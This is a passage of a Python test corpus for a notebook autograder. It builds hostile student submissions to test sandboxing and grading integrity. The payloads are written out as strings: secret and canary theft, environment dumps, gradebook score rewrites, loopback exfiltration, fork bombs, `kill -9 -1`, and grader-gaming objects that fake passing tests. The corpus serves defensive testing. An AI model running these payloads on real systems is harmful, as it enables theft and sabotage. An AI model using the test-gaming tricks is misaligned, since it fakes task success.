"""Broken and hostile submissions of the ``training`` assignment, each with the outcome it is owed.

Every case builds one student's submission folder from the instructor's source notebook and its
release, so the corpus follows the assignment when it changes: "solution" is the source, "blank"
the release, and the hostile cases add code to answer cells or add cells of their own.
``tests/test_grading_corpus.py`` grades all of them in one run and checks every expectation.

Builders take ``(source, release, folder, ctx)``: deep copies of the two notebooks (free to
mutate), the empty folder ``submitted/<case.name>/<assignment>/`` to write into, and the context
made by :func:`make_context` (keys: assignment, course_root, canary, canary_path, victim,
victim_path, victim_secret, port, token, home).

Expected scores are symbolic where they depend on the assignment: "full" (every autograded
point), "zero", "full-minus-last-task" (a fault planted in the last task's answer cell costs
exactly that task) and "first-half" (the first half of the tasks solved); see
:func:`expected_score`.

Cases that try to open a hole of the sandbox score by what they get through it: the answers
they obtain (from another submission's kernel key, from the project's own ``course/source``
read from a course that lives elsewhere) or carry embedded (used only when a user namespace
with a 4 GB tmpfs, or 1 GB of memfd files, could be had) become their answers, so a closed
hole scores zero and an open one full. The keyring pair relies on the grader's order
(``keyring_a_store`` is claimed before ``keyring_b_read``, which looks for 10 s); the key is
readable by every uid, so the channel would work whichever slot grades either one.

Each case is graded in the assignment's own (isolated) mode. The cases named in
:data:`COMPATIBLE` are graded a second time in compatible mode (every cell, tests included, in
the student's sandboxed process, as nbgrader runs them): the sandbox-level ones are owed the
same outcome there; the integrity cases (patched checks, always-equal answers, hidden errors,
hijacked helpers) are owed plain nbgrader's score and a flag for review
(``GradeResult.flags``, "flagged for review" in the reason). :data:`PROBE_GAPS` names those
whose tampering the integrity probe does not notice yet.
"""

from __future__ import annotations

import ast
import json
import os
import secrets
import stat
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from .nbtasks import auto_points, autograded_ids, index_of, meta, tasks

ASSIGNMENT = "training"
ROOT = Path(__file__).resolve().parent.parent
SOURCE_PATH = ROOT / "course" / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
CELL_TIMEOUT = 20  # seconds, the per-cell timeout the harness grades with
TIMED_OUT = f"timed out after {CELL_TIMEOUT} s"
VICTIM = "victim"  # the honest student whose work the hostile ones try to read or overwrite
SECRET_ENV = "DLCOURSE_GRADER_SECRET"  # set to the canary in the grader's environment
SCORES = ("full", "zero", "full-minus-last-task", "first-half")
# Files a student may drop next to the notebook hoping a tool executes them; each writes
# course_root/pwned-<name>.txt when run (see outside_targets).
TRAP_FILES = (
    "nbgrader_config.py",
    "jupyter_config.py",
    "jupyter_nbconvert_config.py",
    "ipython_config.py",
    "ipython_kernel_config.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    ".ipython/profile_default/startup/00-pwned.py",
)

Builder = Callable[[NotebookNode, NotebookNode, Path, dict], None]


@dataclass(frozen=True)
class Expect:
    """What the grader must report for a case.

    ``score`` is a number, one of :data:`SCORES`, or a tuple of the grade_ids of exactly the
    test cells that fail (None for ungradable). ``reason`` and ``events`` hold case-insensitive
    substrings: each reason entry must be in ``GradeResult.reason``; each events entry must be
    in some event (a tuple entry: all its strings in the same event). ``clean``: no events and
    an empty reason. ``absent``: strings (hidden test material the case tries to obtain) that
    must not appear in the graded notebook or the feedback page. ``flagged``: compatible
    mode's integrity probe flags the submission for review (``GradeResult.flags`` is not
    empty); otherwise it must be empty.
    """

    status: str  # "graded" | "ungradable"
    score: str | float | tuple[str, ...] | None = None
    reason: tuple[str, ...] = ()
    events: tuple[str | tuple[str, ...], ...] = ()
    clean: bool = False
    absent: tuple[str, ...] = ()
    flagged: bool = False


@dataclass(frozen=True)
class Case:
    """One student id, how to build the submission, and the outcome it is owed.

    ``needs_sandbox``: harmful or endless for the test machine when the grader does not confine
    student code (a fork or memory bomb, killing other processes, ...).
    """

    name: str
    build: Builder
    expect: Expect
    doc: str
    needs_sandbox: bool = False


# -- expectations ---------------------------------------------------------------------------------
def expected_score(spec: str | float | tuple, source: NotebookNode) -> float:
    """Resolve a symbolic score against the source notebook."""
    if isinstance(spec, tuple):  # the grade_ids of the tests that fail
        points = {meta(c).get("grade_id"): float(meta(c).get("points", 0)) for c in source.cells}
        missing = set(spec) - set(autograded_ids(source))
        assert not missing, f"no test cells {sorted(missing)} in the source: update the corpus"
        return auto_points(source) - sum(points[g] for g in set(spec))
    if not isinstance(spec, str):
        return float(spec)
    found = tasks(source)
    if spec == "full":
        return auto_points(source)
    if spec == "zero":
        return 0.0
    if spec == "full-minus-last-task":
        return auto_points(source) - found[-1]["points"]
    if spec == "first-half":
        return sum(t["points"] for t in found[: len(found) // 2])
    raise ValueError(f"unknown score {spec!r}; use a number or one of {SCORES}")


def expected_failures(spec: str | float | tuple, source: NotebookNode) -> set[str] | None:
    """grade_ids of the test cells that must fail for a symbolic score (None for a number)."""
    if isinstance(spec, tuple):
        return set(spec)
    if not isinstance(spec, str):
        return None
    found = tasks(source)
    failing = {
        "full": [],
        "zero": found,
        "full-minus-last-task": found[-1:],
        "first-half": found[len(found) // 2 :],
    }[spec]
    return {gid for t in failing for gid in t["grade_ids"]}


# -- context --------------------------------------------------------------------------------------
def make_context(course_root: Path, port: int) -> dict:
    """The paths and secrets the cases use; ``port`` is the harness's loopback listener."""
    root = Path(course_root).resolve()
    return {
        "assignment": ASSIGNMENT,
        "course_root": root,
        # outside source/<assignment>/ on purpose: files there are the assignment's data files,
        # which a grader may legitimately hand to the student's code
        "canary": f"CANARY-{secrets.token_hex(16)}",
        "canary_path": root / "source" / "canary.txt",
        "victim": VICTIM,
        "victim_path": root / "submitted" / VICTIM / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "victim_secret": f"VICTIM-{secrets.token_hex(16)}",
        "port": int(port),
        # digits only: it also names the duration of a `sleep` the orphan case leaves behind
        "token": str(10**8 + secrets.randbelow(9 * 10**8)),
        "home": Path.home(),
    }


def outside_targets(ctx: dict) -> list[Path]:
    """Files the hostile cases try to create outside their working folder: none may exist."""
    root, token = ctx["course_root"], ctx["token"]
    return [
        root / "pwned.txt",
        root / "pwned-relative.txt",
        Path(ctx["home"]) / f"dlcourse-pwned-{token}",
        Path("/tmp") / f"dlcourse-pwned-{token}",
        *(root / _trap_marker(name) for name in TRAP_FILES),
    ]


def sleeper_marker(ctx: dict) -> str:
    """The argument of the `sleep` process the orphan case tries to leave running."""
    return f"299.{ctx['token']}"


def _trap_marker(name: str) -> str:
    return "pwned-" + name.replace("/", "_") + ".txt"


# -- notebook editing -----------------------------------------------------------------------------
def _write(nb: NotebookNode, folder: Path, ctx: dict, name: str | None = None) -> None:
    nbformat.write(nb, folder / (name or f"{ctx['assignment']}.ipynb"))


def _code(text: str) -> NotebookNode:
    return nbformat.v4.new_code_cell(textwrap.dedent(text).strip("\n"))


def _ctx_code(ctx: dict) -> str:
    """A line defining ``_CTX`` for hostile code: the context's paths and port, not its secrets."""
    keep = ("assignment", "course_root", "canary_path", "victim", "victim_path", "port", "token")
    return "_CTX = " + repr({k: ctx[k] if k == "port" else str(ctx[k]) for k in (*keep, "home")})


def _answers(nb: NotebookNode) -> list[int]:
    """Indices of the autograded answer (solution code) cells."""
    return [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and meta(c).get("solution")]


def _last_answer(nb: NotebookNode) -> int:
    return index_of(nb, tasks(nb)[-1]["grade_id"])


def _setup(nb: NotebookNode) -> int:
    """Index of the first locked code cell (the one that imports and defines the test helpers)."""
    for i, c in enumerate(nb.cells):
        if c.cell_type == "code" and meta(c).get("locked") and not meta(c).get("grade"):
            return i
    raise LookupError("no locked setup cell")


def _locked_defining(nb: NotebookNode, name: str) -> int:
    """Index of the locked, non-test code cell that defines the function ``name``."""
    for i, c in enumerate(nb.cells):
        m = meta(c)
        if c.cell_type == "code" and m.get("locked") and not m.get("grade"):
            if name in _functions(c.source):
                return i
    raise LookupError(f"no locked cell defines {name}(): update this corpus case")


def _functions(text: str) -> list[str]:
    """Names of the top-level functions a cell defines."""
    return [n.name for n in ast.parse(text).body if isinstance(n, ast.FunctionDef)]


def _prepend(cell: NotebookNode, text: str) -> None:
    cell.source = textwrap.dedent(text).strip("\n") + "\n" + cell.source


def _append(cell: NotebookNode, text: str) -> None:
    cell.source = cell.source.rstrip("\n") + "\n\n" + textwrap.dedent(text).strip("\n") + "\n"


def _replace_stubs(nb: NotebookNode, line: str) -> None:
    """Replace every ``raise NotImplementedError()`` of the answer cells by ``line``."""
    for i in _answers(nb):
        out = []
        for old in nb.cells[i].source.splitlines():
            if old.strip() == "raise NotImplementedError()":
                indent = old[: len(old) - len(old.lstrip())]
                new = line if indent or not line.startswith("return ") else line[len("return ") :]
                out.append(indent + new)
            else:
                out.append(old)
        nb.cells[i].source = "\n".join(out)


def _wrong_answers(release: NotebookNode) -> NotebookNode:
    """The release with every stub replaced by ``pass``: it runs, and every answer is wrong."""
    _replace_stubs(release, "pass")
    return release


# -- hostile code ---------------------------------------------------------------------------------
PATCH_CHECKS = """
# hostile: make every check the tests could use succeed, in this process
import numpy as np
import numpy.testing
import torch


def _yes(*args, **kwargs):
    return True


def _nothing(*args, **kwargs):
    return None


np.allclose = _yes
np.array_equal = _yes
np.testing.assert_allclose = _nothing
np.testing.assert_array_equal = _nothing
np.isfinite = lambda x, *args, **kwargs: np.ones(np.shape(x), dtype=bool)
np.shares_memory = lambda *args, **kwargs: False
torch.allclose = _yes
check_close = _nothing
check_array = lambda a=None, *args, **kwargs: a  # noqa: E731
import dlcourse.checks  # noqa: E402

dlcourse.checks.check_close = _nothing
dlcourse.checks.check_array = check_array
dlcourse.checks._require = _nothing
"""

# Also breaks functions a correct answer uses, so only for answers that lie anyway.
PATCH_EVERYTHING = (
    PATCH_CHECKS
    + """
import math

np.linalg.norm = lambda *args, **kwargs: 0.0
np.all = _yes
math.isfinite = _yes
"""
)

LIAR = '''
# hostile: every answer returns values that claim to equal anything they are compared with
import numbers

import numpy as np


def _same(self, *args, **kwargs):
    return self


def _true(self, *args, **kwargs):
    return True


def _false(self, *args, **kwargs):
    return False


def _no_dunders(self, name):
    if name.startswith("__"):
        raise AttributeError(name)
    return _Liar()


class _Liar(float):
    """A NaN equal to, less than and greater than everything; any operation gives itself."""

    def __new__(cls, value=float("nan")):
        return super().__new__(cls, value)

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _true
    __ne__ = _false
    __hash__ = float.__hash__
    __array_ufunc__ = None  # NumPy hands every operation back to the methods below

    def __array__(self, dtype=None, copy=None):
        return np.asarray(float(self), dtype=dtype)

    __getattr__ = _no_dunders
    __call__ = __getitem__ = __neg__ = __pos__ = __abs__ = _same
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _same
    __truediv__ = __rtruediv__ = __matmul__ = __rmatmul__ = __pow__ = __rpow__ = _same


class _LiarDict(dict):
    __eq__ = __contains__ = _true
    __ne__ = _false
    __hash__ = None

    def __missing__(self, key):
        return _Liar()


class _LiarTuple(tuple):
    """(a liar, a dict of liars) that also passes for a number."""

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _true
    __ne__ = _false
    __hash__ = tuple.__hash__
    __array_ufunc__ = None
    __getattr__ = _no_dunders
    __call__ = __neg__ = __abs__ = _same
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _same
    __truediv__ = __rtruediv__ = __matmul__ = __rmatmul__ = _same

    def __array__(self, dtype=None, copy=None):
        return np.asarray(float("nan"), dtype=dtype)

    def __float__(self):
        return float("nan")


numbers.Real.register(_LiarTuple)


def _lie():
    liars = _LiarDict({key: _Liar() for key in ("dW", "db1", "dU", "db2")})
    return _LiarTuple((_Liar(), liars))
'''

IPYTHON_TAMPER = """
# hostile: hide every error from whoever watches this kernel
import sys

try:
    _ip = get_ipython()  # noqa: F821
except NameError:
    _ip = None
sys.excepthook = lambda *args, **kwargs: None
if _ip is not None:
    _ip.showtraceback = lambda *args, **kwargs: None
    _ip._showtraceback = lambda *args, **kwargs: None
    _ip.showsyntaxerror = lambda *args, **kwargs: None
    _ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)

    def _forget_errors(result):
        result.error_in_exec = None
        result.error_before_exec = None

    _ip.events.register("post_run_cell", _forget_errors)
"""

FAKE_SUCCESS = """
# hostile: claim success in every format a grader might parse
import json
import os
import sys

print("All tests passed!")
print(f"Score: {_FAKE['score']} / {_FAKE['max_score']}")
print(json.dumps(_FAKE))
sys.__stdout__.write(json.dumps(_FAKE) + "\\n")
sys.__stdout__.flush()
os.write(1, (json.dumps(_FAKE) + "\\n").encode())
os.write(2, b"All tests passed!\\n")
try:
    from IPython.display import display

    display({"application/json": _FAKE, "text/plain": "All tests passed!"}, raw=True)
except Exception:
    pass
"""

STEAL = """
# hostile: read the instructor's files and another student's work, run any solution found;
# what it reads is printed, and carried out in the message of every unanswered task's error
import glob
import json
import os
import re

_ROOT, _A = _CTX["course_root"], _CTX["assignment"]
_LOOT = []
for _path in [
    _CTX["canary_path"],
    "../../../source/canary.txt",
    os.path.join(_ROOT, "gradebook.db"),
    os.path.join(_ROOT, "nbgrader_config.py"),
    _CTX["victim_path"],
    os.path.join(_ROOT, "autograded", _CTX["victim"], _A, _A + ".ipynb"),
]:
    try:
        with open(_path, "rb") as _f:
            _data = _f.read(500_000)
    except Exception as _exc:
        print(_path, "->", type(_exc).__name__)
        continue
    print(_path, _data)
    _LOOT.append(_data[:100].decode("utf-8", "replace"))
    _LOOT += [m.decode() for m in re.findall(rb"VICTIM-[0-9a-f]+", _data)]
_LOOT = " | ".join(_LOOT) or "nothing readable"
for _dir in [_ROOT, os.path.join(_ROOT, "source"), "../../..", os.path.expanduser("~"), "/"]:
    try:
        print(_dir, sorted(os.listdir(_dir)))
    except Exception as _exc:
        print(_dir, "->", type(_exc).__name__)

_NOTEBOOKS = [
    os.path.join(_ROOT, "source", _A, _A + ".ipynb"),
    f"../../../source/{_A}/{_A}.ipynb",
    f"../../source/{_A}/{_A}.ipynb",
    f"../source/{_A}/{_A}.ipynb",
    _CTX["victim_path"],
    os.path.join(_ROOT, "autograded", _CTX["victim"], _A, _A + ".ipynb"),
    f"../../{_CTX['victim']}/{_A}/{_A}.ipynb",
    *glob.glob(os.path.join(_ROOT, "**", "*.ipynb"), recursive=True),
]


def _steal(grade_id):
    \"\"\"Run the first non-blank cell with this grade_id in any notebook readable from here.\"\"\"
    for path in _NOTEBOOKS:
        try:
            with open(path, encoding="utf-8") as f:
                cells = json.load(f)["cells"]
        except Exception:
            continue
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") != grade_id:
                continue
            text = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
            if "raise NotImplementedError" not in text:
                exec(text, globals())
                print("used", grade_id, "from", path)
                return
"""

ENV_SECRETS = """
# hostile: dump the environment and whatever other processes' environments are readable
import glob
import os

for _k, _v in sorted(os.environ.items()):
    print(_k, "=", _v)
for _proc in glob.glob("/proc/[0-9]*"):
    for _name in ("environ", "cmdline"):
        try:
            with open(os.path.join(_proc, _name), "rb") as _f:
                _data = _f.read()
        except OSError:
            continue
        if any(word in _data for word in (b"SECRET", b"TOKEN", b"KEY", b"PASS")):
            print(_proc, _name, _data[:20_000])
"""

WRITE_OUTSIDE = """
# hostile: write, overwrite and corrupt files outside this submission
import os
import sqlite3

_ROOT, _A = _CTX["course_root"], _CTX["assignment"]
for _path in [
    os.path.join(_ROOT, "pwned.txt"),
    "../../../pwned-relative.txt",
    os.path.join(_CTX["home"], "dlcourse-pwned-" + _CTX["token"]),
    os.path.expanduser("~/dlcourse-pwned-" + _CTX["token"]),
    "/tmp/dlcourse-pwned-" + _CTX["token"],
    os.path.join(_ROOT, "source", _A, _A + ".ipynb"),
    os.path.join(_ROOT, "release", _A, _A + ".ipynb"),
    os.path.join(_ROOT, "nbgrader_config.py"),
    _CTX["victim_path"],
]:
    try:
        with open(_path, "w") as _f:
            _f.write("{}")
        print("wrote", _path)
    except OSError as _exc:
        print("blocked", _path, type(_exc).__name__)

_GB = os.path.join(_ROOT, "gradebook.db")
try:
    _con = sqlite3.connect(_GB, timeout=2)
    for (_table,) in _con.execute("select name from sqlite_master where type = 'table'"):
        for _col in [r[1] for r in _con.execute(f"pragma table_info('{_table}')")]:
            if "score" in _col:
                _con.execute(f"update '{_table}' set '{_col}' = 999")
    _con.commit()
    _con.close()
    print("rewrote the gradebook's scores")
except Exception as _exc:
    print("blocked sqlite", type(_exc).__name__)
for _mode, _bytes in [("ab", b"pwned"), ("r+b", bytes(100))]:
    try:
        with open(_GB, _mode) as _f:
            _f.write(_bytes)
        print("corrupted", _GB, _mode)
    except OSError as _exc:
        print("blocked", _GB, _mode, type(_exc).__name__)
"""

NETWORK = """
# hostile: talk to the outside world (here, a listener the harness opened on loopback)
import socket
import urllib.request

for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, _CTX["port"]), timeout=3) as _s:
            _s.sendall(b"exfiltrated\\n")
        print("connected to", _host)
    except OSError as _exc:
        print("blocked", _host, type(_exc).__name__)
try:
    urllib.request.urlopen(f"http://127.0.0.1:{_CTX['port']}/", timeout=3)
except Exception as _exc:
    print("blocked http", type(_exc).__name__)
"""

ORPHAN = """
# hostile: leave a process behind, in its own session, holding this process's stdout and stderr
import os

_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", _MARK])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
print("left a sleeper behind")
"""

FORK_BOMB = """
# hostile: a fork bomb, bounded (2**10 processes for 8 s at most) so an unconfined run survives
import os
import time

_root, _until = os.getpid(), time.monotonic() + 8
for _ in range(10):
    try:
        os.fork()
    except OSError:
        break
while time.monotonic() < _until:
    time.sleep(0.1)
if os.getpid() != _root:
    os._exit(0)
"""

C_STACK_OVERFLOW = """
# hostile: recursion through C code with the recursion limit lifted overflows the C stack
import sys

sys.setrecursionlimit(10**6)


class _Deep:
    def __getattr__(self, name):
        return getattr(self, name)


_Deep().boom
"""

KILL_PARENT_AND_GROUP = """
# hostile: kill the process that runs this one, and its whole process group
import os
import signal

for _attempt in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.killpg(0, signal.SIGKILL),
):
    try:
        _attempt()
    except OSError as _exc:
        print("blocked", type(_exc).__name__)
"""

KILL_EVERYTHING = """
# hostile: `kill -9 -1`, every process this user may signal
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError as _exc:
    print("blocked", type(_exc).__name__)
"""

MEMORY_BOMB = """
# hostile: grow resident memory until something gives
_hoard = []
while True:
    _hoard.append(b"x" * 2**27)
"""

DISK_FILLER = """
# hostile: fill the disk from the working folder (1 GiB)
with open("filler.bin", "wb") as _f:
    for _ in range(64):
        _f.write(b"\\1" * 2**24)
"""

PRINT_200MB = """
# hostile: print 200 MB
import sys

_line = "x" * 1023 + "\\n"
for _ in range(200 * 1024):
    sys.stdout.write(_line)
"""

UNINTERRUPTIBLE = """
# hostile: ignore every polite signal, swallow every exception, never finish
import signal
import time

for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP, signal.SIGUSR1):
    try:
        signal.signal(_sig, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
"""


# -- builders -------------------------------------------------------------------------------------
def _solution(source, release, folder, ctx):
    _write(source, folder, ctx)


def _blank(source, release, folder, ctx):
    _write(release, folder, ctx)


def _first_half(source, release, folder, ctx):
    found = tasks(source)
    for t in found[: len(found) // 2]:
        release.cells[index_of(release, t["grade_id"])] = source.cells[t["solution_index"]]
    _write(release, folder, ctx)


def _always_equal(source, release, folder, ctx):
    _replace_stubs(release, "return _lie()")
    for i in _answers(release):
        _prepend(release.cells[i], PATCH_EVERYTHING)
    release.cells.insert(_answers(release)[0], _code(LIAR))
    _write(release, folder, ctx)


def _patched_checks_on_solution(source, release, folder, ctx):
    for i in _answers(source):
        _append(source.cells[i], PATCH_CHECKS)
    _write(source, folder, ctx)


def _ipython_tampering(source, release, folder, ctx):
    release.cells.insert(_setup(release) + 1, _code(IPYTHON_TAMPER))
    _write(release, folder, ctx)


def _fake_success_output(source, release, folder, ctx):
    points = {
        meta(c)["grade_id"]: float(meta(c).get("points", 0))
        for c in source.cells
        if meta(c).get("grade_id") in set(autograded_ids(source))
    }
    fake = {
        "status": "graded",
        "score": auto_points(source),
        "max_score": auto_points(source),
        "reason": "",
        "tests": [
            {"grade_id": g, "points": p, "max_points": p, "passed": True, "message": ""}
            for g, p in points.items()
        ],
    }
    for i in reversed(range(len(release.cells))):
        if meta(release.cells[i]).get("grade_id") in points:
            release.cells.insert(i + 1, _code('print("All tests passed!")'))
    release.cells.insert(_setup(release) + 1, _code(f"_FAKE = {fake!r}\n" + FAKE_SUCCESS))
    _write(release, folder, ctx)


def _sys_exit_blank(source, release, folder, ctx):
    first, second = _answers(release)[:2]
    _prepend(release.cells[first], "import sys\n\nsys.exit(0)")
    _prepend(release.cells[second], "raise SystemExit(0)")
    _write(release, folder, ctx)


def _sys_exit_after_solution(source, release, folder, ctx):
    for i in _answers(source):
        _append(source.cells[i], "import sys\n\nsys.exit(0)")
    _write(source, folder, ctx)


def _prepend_to_last(text: str) -> Builder:
    def build(source, release, folder, ctx):
        _prepend(source.cells[_last_answer(source)], text)
        _write(source, folder, ctx)

    return build


def _append_to_last(text: str) -> Builder:
    def build(source, release, folder, ctx):
        _append(source.cells[_last_answer(source)], text)
        _write(source, folder, ctx)

    return build


def _redefine_last(body: str) -> Builder:
    """The solution, with every function of the last task redefined (after the honest ones) as
    ``body``; ``{name}`` in ``body`` stands for the function's own name."""

    def build(source, release, folder, ctx):
        cell = source.cells[_last_answer(source)]
        for name in _functions(cell.source):
            text = textwrap.dedent(body).strip("\n").replace("{name}", name)
            _append(cell, f"def {name}(*args, **kwargs):\n{textwrap.indent(text, '    ')}")
        _write(source, folder, ctx)

    return build


def _cell_before_last(text: str) -> Builder:
    def build(source, release, folder, ctx):
        source.cells.insert(_last_answer(source), _code(text))
        _write(source, folder, ctx)

    return build


def _cell_at_end(text: str, needs_ctx: bool = False) -> Builder:
    def build(source, release, folder, ctx):
        prefix = _ctx_code(ctx) + "\n" if needs_ctx else ""
        source.cells.append(_code(prefix + textwrap.dedent(text)))
        _write(source, folder, ctx)

    return build


def _orphan_sleeper(source, release, folder, ctx):
    source.cells.append(_code(f"_MARK = {sleeper_marker(ctx)!r}\n" + ORPHAN))
    _write(source, folder, ctx)


def _read_secrets(source, release, folder, ctx):
    _replace_stubs(release, "raise NotImplementedError(_LOOT)")
    for i in _answers(release):
        _append(release.cells[i], f"_steal({meta(release.cells[i])['grade_id']!r})")
    release.cells.insert(_setup(release) + 1, _code(_ctx_code(ctx) + "\n" + STEAL))
    _write(release, folder, ctx)


def _write_outside(source, release, folder, ctx):
    release.cells.insert(_setup(release) + 1, _code(_ctx_code(ctx) + "\n" + WRITE_OUTSIDE))
    _write(release, folder, ctx)


def _corrupt_json(source, release, folder, ctx):
    text = nbformat.writes(source)
    (folder / f"{ctx['assignment']}.ipynb").write_text(text[: len(text) // 2])


def _empty_file(source, release, folder, ctx):
    (folder / f"{ctx['assignment']}.ipynb").write_bytes(b"")


def _json_list(source, release, folder, ctx):
    (folder / f"{ctx['assignment']}.ipynb").write_text("[1, 2, 3]\n")


def _json_without_cells(source, release, folder, ctx):
    doc = {"metadata": dict(source.metadata), "nbformat": 4, "nbformat_minor": 5}
    (folder / f"{ctx['assignment']}.ipynb").write_text(json.dumps(doc))


def _nbformat3(source, release, folder, ctx):
    nb3 = nbformat.convert(source, 3)
    (folder / f"{ctx['assignment']}.ipynb").write_text(nbformat.writes(nb3, version=3))


def _no_notebook(source, release, folder, ctx):
    (folder / "README.md").write_text("I could not finish, sorry. My answers are in notes.txt.\n")
    (folder / "notes.txt").write_text("softmax: subtract the max first\n")


def _renamed_notebook(source, release, folder, ctx):
    _write(source, folder, ctx, name=f"{ctx['assignment']} (1).ipynb")


def _two_notebooks(source, release, folder, ctx):
    _write(source, folder, ctx)
    _write(release, folder, ctx, name=f"{ctx['assignment']}-draft.ipynb")


def _extra_files_and_symlinks(source, release, folder, ctx):
    (folder / "README.md").write_text("My submission.\n")
    (folder / "data.csv").write_text("x,y\n1,2\n")
    (folder / "helper.py").write_text("def helper():\n    return 42\n")
    for name in TRAP_FILES:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        marker = ctx["course_root"] / _trap_marker(name)
        path.write_text(f"open({str(marker)!r}, 'w').write('executed')\n")
    root = ctx["course_root"]
    links = {
        "canary_link.txt": ctx["canary_path"],
        "instructor_link.txt": root / "source" / ctx["assignment"] / f"{ctx['assignment']}.ipynb",
        "course_link": root,
        "relative_canary.txt": Path(os.path.relpath(ctx["canary_path"], folder)),
    }
    for name, target in links.items():
        (folder / name).symlink_to(target)
    names = [*links, "course_link/source/canary.txt"]
    source.cells.append(
        _code(
            f"""
            for _name in {names!r}:
                try:
                    with open(_name, "rb") as _f:
                        print(_name, _f.read(500_000))
                except OSError as _exc:
                    print(_name, "->", type(_exc).__name__)
            """
        )
    )
    _write(source, folder, ctx)


def _kernelspec_ir(source, release, folder, ctx):
    source.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    source.metadata["language_info"] = {"name": "R"}
    _write(source, folder, ctx)


def _latin1_bytes(source, release, folder, ctx):
    source.cells.append(nbformat.v4.new_markdown_cell("Notes taken at the @@LATIN1@@."))
    _write(source, folder, ctx)
    path = folder / f"{ctx['assignment']}.ipynb"
    path.write_bytes(path.read_bytes().replace(b"@@LATIN1@@", b"caf\xe9"))


def _huge_saved_outputs(source, release, folder, ctx):
    text = ("y" * 999 + "\n") * (10 * 1024)  # 10 MB
    for i in [i for i, c in enumerate(source.cells) if c.cell_type == "code"][:3]:
        source.cells[i].outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
        source.cells[i].execution_count = i + 1
    _write(source, folder, ctx)


def _deleted_tests_solution(source, release, folder, ctx):
    gone = set(tasks(source)[0]["grade_ids"])
    source.cells = [c for c in source.cells if meta(c).get("grade_id") not in gone]
    _write(source, folder, ctx)


def _emptied_tests_wrong_answers(source, release, folder, ctx):
    nb = _wrong_answers(release)
    for i in _test_cells(nb):
        nb.cells[i].source = "pass"
    _write(nb, folder, ctx)


def _edited_setup_wrong_answers(source, release, folder, ctx):
    nb = _wrong_answers(release)
    _append(
        nb.cells[_setup(nb)],
        """
        def check_close(*args, **kwargs):
            pass


        def check_array(a, *args, **kwargs):
            return a
        """,
    )
    _write(nb, folder, ctx)


def _answers_moved_to_plain_cells(source, release, folder, ctx):
    for i in {_answers(source)[0], _answers(source)[-1]}:
        source.cells[i] = nbformat.v4.new_code_cell(source.cells[i].source)
    _write(source, folder, ctx)


def _empty_notebook(source, release, folder, ctx):
    _write(nbformat.v4.new_notebook(metadata=source.metadata), folder, ctx)


def _faked_outputs(source, release, folder, ctx):
    for n, i in enumerate(_test_cells(release), start=1):
        release.cells[i].execution_count = n
        release.cells[i].outputs = [
            nbformat.v4.new_output("stream", name="stdout", text="ok\n"),
            nbformat.v4.new_output(
                "execute_result", data={"text/plain": "True"}, execution_count=n
            ),
        ]
    _write(release, folder, ctx)


def _metadata_tampering(source, release, folder, ctx):
    tests = _test_cells(source)
    for i in tests:
        meta(source.cells[i])["points"] = 100
    meta(source.cells[tests[0]])["grade"] = False
    first = meta(source.cells[_answers(source)[0]])
    first.update(grade=True, points=50)
    bonus = _code("assert True")
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    source.cells.append(bonus)
    _write(source, folder, ctx)


def _helper_hijack(source, release, folder, ctx):
    fb = release.cells[index_of(release, "forward_backward")]
    stub = "    raise NotImplementedError()"
    assert stub in fb.source, "forward_backward's stub changed: update this corpus case"
    zeros = '    return 0.0, {"dW": 0 * W, "db1": 0 * b1, "dU": 0 * U, "db2": 0 * b2}'
    fb.source = fb.source.replace(stub, zeros)
    nb = _wrong_answers(release)
    hijacks = {
        "torch_reference": """
            def torch_reference(*args):  # the reference is now my own answer
                return forward_backward(*args)
            """,
        "run_gd": """
            def run_gd(A, y, lr=None, n_iter=None, x0=None):  # the limit, whatever the answer
                A = np.asarray(A, dtype=float)
                P = np.linalg.pinv(A)
                x0 = np.zeros(A.shape[1]) if x0 is None else np.asarray(x0, dtype=float)
                return P @ y + (np.eye(A.shape[1]) - P @ A) @ x0
            """,
    }
    for name, text in hijacks.items():
        nb.cells.insert(_locked_defining(nb, name) + 1, _code(text))
    _write(nb, folder, ctx)


def _victim(source, release, folder, ctx):
    _prepend(source.cells[_answers(source)[0]], f"# {ctx['victim_secret']}")
    _write(source, folder, ctx)


def _test_cells(nb: NotebookNode) -> list[int]:
    ids = set(autograded_ids(nb))
    return [i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") in ids]


# -- issue 17: merge order, write-back, callbacks, protocol limits -------------------------------
REDEFINE_CHECKS = """
# hostile: checks that pass everything and print what the tests hand them
def check_close(*args, **kwargs):
    print("check_close", args, kwargs)


def check_array(a, *args, **kwargs):
    print("check_array", args, kwargs)
    return a
"""

ZEROING = """
# hostile: every function above zeroes the arrays it is given (the change travels back to the
# tests), then answers for the zeroed inputs
import functools as _functools

import numpy as _np


def _zeroing(f):
    @_functools.wraps(f)
    def wrapper(*args, **kwargs):
        for a in (*args, *kwargs.values()):
            if isinstance(a, _np.ndarray) and a.flags.writeable:
                a[...] = 0
        return f(*args, **kwargs)

    return wrapper


for _name in _NAMES:
